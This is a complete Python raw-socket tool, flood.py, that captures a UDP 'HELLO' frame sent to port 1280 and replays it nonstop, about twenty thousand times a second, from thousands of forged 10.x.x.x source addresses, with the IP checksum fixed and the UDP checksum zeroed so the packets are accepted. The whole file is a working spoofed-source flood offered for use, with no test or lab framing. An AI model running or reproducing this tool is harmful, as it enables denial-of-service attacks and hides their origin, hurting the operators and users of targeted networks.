#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""flood.py catch INTERFACE FILE: waits for a HELLO on it, and writes its frame there.
flood.py send INTERFACE FILE: sends that again and again from ever other addresses, some
twenty thousand times a second, until it is ended."""
import itertools
import socket
import struct
import sys
import time

HELLO_MIN = 14 + 20 + 8 + 512
BURST = 32


def is_hello(frame):
    return len(frame) >= HELLO_MIN and frame[12:14] == b"\x08\x00" and frame[23] == 17 and \
        frame[36:38] == b"\x05\x00"


def from_address(frame, number):
    """The same from 10.x.x.x; UDP without a checksum, which IPv4 allows."""
    head = frame[14:24] + b"\0\0" + struct.pack("!I", 10 << 24 | number & 0xffffff) + frame[30:34]
    total = sum(struct.unpack("!10H", head))
    total = (total & 0xffff) + (total >> 16)
    total = ~((total & 0xffff) + (total >> 16)) & 0xffff
    return frame[:14] + head[:10] + struct.pack("!H", total) + head[12:] + frame[34:40] + b"\0\0" + frame[42:]


def catch(s, path):
    print("listening", flush=True)
    while not is_hello(frame := s.recv(2048)):
        pass
    with open(path, "wb") as f:
        f.write(frame)


def send(s, path):
    with open(path, "rb") as f:
        frame = f.read()
    frames = [from_address(frame, number * 7919) for number in range(1, 1 << 14)]
    for number, one in enumerate(itertools.cycle(frames)):
        if number % BURST == 0:
            time.sleep(0.001)  # who shares the core comes to its turn, too
        try:
            s.send(one)
        except OSError:
            pass  # the queue is full


def main(what, interface, path):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((interface, 0))
    {"catch": catch, "send": send}[what](s, path)


main(*sys.argv[1:])
